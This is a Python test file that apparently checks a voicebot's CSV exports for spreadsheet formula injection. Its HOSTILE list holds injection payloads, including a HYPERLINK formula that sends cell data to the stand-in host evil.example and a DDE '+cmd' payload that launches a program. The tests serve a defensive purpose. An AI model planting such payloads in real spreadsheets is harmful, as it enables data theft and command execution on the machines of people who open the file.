"""The second attack's findings outside the relay socket: spreadsheet formulas, premium-rate destinations, the
shipped nginx site and compose file, analysis schemas, an open /metrics and URL settings without a scheme.

Each test reproduces one finding and checks that it now does no harm; the relay socket's are in
test_relay_attack_drills.py and test_twilio_relay.py.
"""

from __future__ import annotations

import csv
import io

import pytest

from voicebot.outbound.results import write_results
from voicebot.records.spreadsheet import write_csv

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_calls_export_neutralises_every_cell_a_spreadsheet_would_run(value):
    record = {"id": "rec_1", "call_id": "c1", "platform": "voicebot", "caller": value, "turns": 2,
              "variables": {"name": value}, "analysis": {"summary": value, "data": {"note": value}}}
    out = io.StringIO()
    assert write_csv([record], out) == 1
    header, row = _cells(out.getvalue())
    cells = dict(zip(header, row))
    for column in ("caller", "var.name", "summary", "note"):
        assert cells[column] == "'" + value  # shown as the text it is, never run
    assert cells["turns"] == "2"


@pytest.mark.parametrize("value", HOSTILE)
def test_campaign_results_neutralise_a_contacts_fields(value):
    out = io.StringIO()
    write_results([{"phone": "+15551112222", "outcome": "completed", "final": True, "attempts": 1,
                    "duration_seconds": 12, "variables": {"name": value, "balance": "-12.50"}}], out)
    header, row = _cells(out.getvalue())
    cells = dict(zip(header, row))
    assert cells["var.name"] == "'" + value
    # Plain numbers are no formulas: a phone number and a negative amount stay as they are.
    assert cells["phone"] == "+15551112222" and cells["var.balance"] == "-12.50"
